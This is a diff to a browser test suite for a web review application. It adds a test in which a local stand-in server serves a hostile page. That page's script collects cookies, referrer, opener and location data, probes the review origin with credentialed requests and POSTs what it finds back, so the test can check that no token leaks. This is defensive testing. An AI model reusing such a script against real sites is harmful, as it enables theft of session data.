@@ -2,12 +2,15 @@
 
 import os
 from collections.abc import Callable, Iterator
+from contextlib import nullcontext
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from threading import Thread
+from typing import Any, ClassVar
 
 import pytest
 from a_source import ACCOUNT, letter
-from letters import FIRST, SECOND, TOKEN, keep, text
+from letters import FIRST, ROOT, SECOND, TOKEN, keep, text
 
 from xuanzhi.cli.main import main
 
@@ -53,7 +56,7 @@ class Tab:
 
     def go(self, path: str) -> "Tab":
         """Open an address."""
-        self.page.goto(self.address + path)
+        self.page.goto(self.address + path.removeprefix(ROOT))
         return self
 
     def press(self, *keys: str) -> "Tab":
@@ -86,7 +89,7 @@ def tab(chromium: Any, opened: Callable) -> Iterator[Callable[..., Tab]]:
         context = chromium.new_context(locale=language, **settings)
         contexts.append(context)
         found = Tab(context.new_page(), address)
-        return found.go(f"/?token={TOKEN}")
+        return found.go("/")
 
     yield opener
     for context in contexts:
@@ -219,9 +222,9 @@ def test_axe_finds_nothing(
     page = opened.page
     links = [each.get_attribute("href") for each in page.query_selector_all("a.open, a.more")]
     items = [f"{links[0]}?view={view}" for view in ("changes", "full", "removed", "rendered", "source")]
-    page.goto(opened.address + items[2])
+    opened.go(items[2])
     wrong = page.query_selector("a.wrong").get_attribute("href")
-    page.goto(opened.address + "/articles")
+    opened.go("/articles")
     article = page.query_selector("td.title a").get_attribute("href")
     found = []
     for path in (*PATHS, *items, links[-1], wrong, f"{links[0]}/propose?text=扫码入群", article):
@@ -355,7 +358,7 @@ def test_hostile_texts_titles_and_notes_are_inert(language: str, tmp_path: Path,
     assert "alert(8)" in page.inner_text(".history")
     opened.go("/articles")
     article = page.query_selector("td.title a").get_attribute("href")
-    source = page.goto(opened.address + item) and page.get_attribute('a[href^="/source/"]', "href")
+    source = opened.go(item) and page.get_attribute('a[href*="/source/"]', "href")
     for path_here in (
         "/?state=any",
         "/statistics",
@@ -394,3 +397,82 @@ def test_hostile_proposals_are_inert(tmp_path: Path, tab: Callable[..., Tab]) ->
     assert tail[0] in page.inner_text("main")
     assert page.title() != "run"
     assert opened.wrong == []
+
+
+OTHER = """<!doctype html><title>other</title><body><script>
+addEventListener("load", async () => {
+  const review = "%s", seen = [document.referrer, document.cookie, location.href, String(opener), name];
+  for (const mode of ["no-cors", "cors"])
+    await fetch(review, { mode, credentials: "include" }).then((answer) => seen.push(answer.url), () => 0);
+  for (const tag of ["img", "iframe", "script", "embed", "object"]) {
+    const part = document.createElement(tag);
+    part.src = part.data = review;
+    document.body.append(part);
+  }
+  const opened = window.open(review);
+  await new Promise((done) => setTimeout(done, 300));
+  const reads = [() => opened.location.href, () => frames[0].location.href, () => opener.location.href];
+  for (const read of reads) try { seen.push(read()); } catch { seen.push("-"); }
+  seen.push(...performance.getEntries().map((each) => each.name), ...navigation.entries().map((each) => each.url));
+  await fetch("/seen", { method: "POST", body: JSON.stringify(seen) });
+  document.title = "done";
+});
+</script>"""
+"""A page of somebody else's, that tries everything a page can try to learn where the review page stands."""
+
+WAYS = (
+    "const a = document.createElement('a'); a.href = at; document.body.append(a); a.click()",
+    "const a = document.createElement('a'); a.href = at; a.target = '_blank'; a.rel = 'opener'; "
+    "document.body.append(a); a.click()",
+    "location = at",
+    "window.open(at, '_blank')",
+)
+"""How a reviewer comes there from the review page."""
+
+
+class _Other(BaseHTTPRequestHandler):
+    """A server at another port, which keeps everything that it gets."""
+
+    seen: ClassVar[list[str]] = []
+    review: ClassVar[str] = ""
+
+    def do_GET(self) -> None:
+        """Keep the request, and answer with the page that tries."""
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
+        self.seen.append(f"{self.requestline}\n{self.headers}\n{body}")
+        page = (OTHER % self.review).encode()
+        self.send_response(302 if "?again" in self.path else 200)
+        self.send_header("Location", self.path.partition("?")[0])
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(page)))
+        self.end_headers()
+        self.wfile.write(page)
+
+    do_POST = do_GET  # noqa: N815  # as http.server calls it
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+def test_another_server_of_this_machine_learns_nothing(collection: Path, tab: Callable[..., Tab]) -> None:
+    opened = tab(collection)
+    page = opened.page
+    opened.go("/settings")
+    page.fill("input[name=reviewer]", "王纸")
+    page.click("button.main")
+    page.wait_for_load_state()
+    inside = opened.address.removesuffix(ROOT)
+    _Other.seen.clear()
+    _Other.review = f"{inside}/"
+    with ThreadingHTTPServer(("127.0.0.1", 0), _Other) as other:
+        Thread(target=other.serve_forever, daemon=True).start()
+        at = f"http://127.0.0.1:{other.server_port}/"
+        for number, script in enumerate(WAYS):
+            opened.go("/")
+            with page.context.expect_event("page") if "_blank" in script else nullcontext() as new:
+                page.evaluate(f"at => {{ {script} }}", at + "?again" * (number % 2))
+            (new.value if new else page).wait_for_function("document.title === 'done'")
+        other.shutdown()
+    assert len(_Other.seen) >= 2 * len(WAYS)
+    assert [each for each in _Other.seen if TOKEN in each or "xuanzhi-reviewer" in each] == []
+    assert not any("\nReferer: " + inside in each for each in _Other.seen)
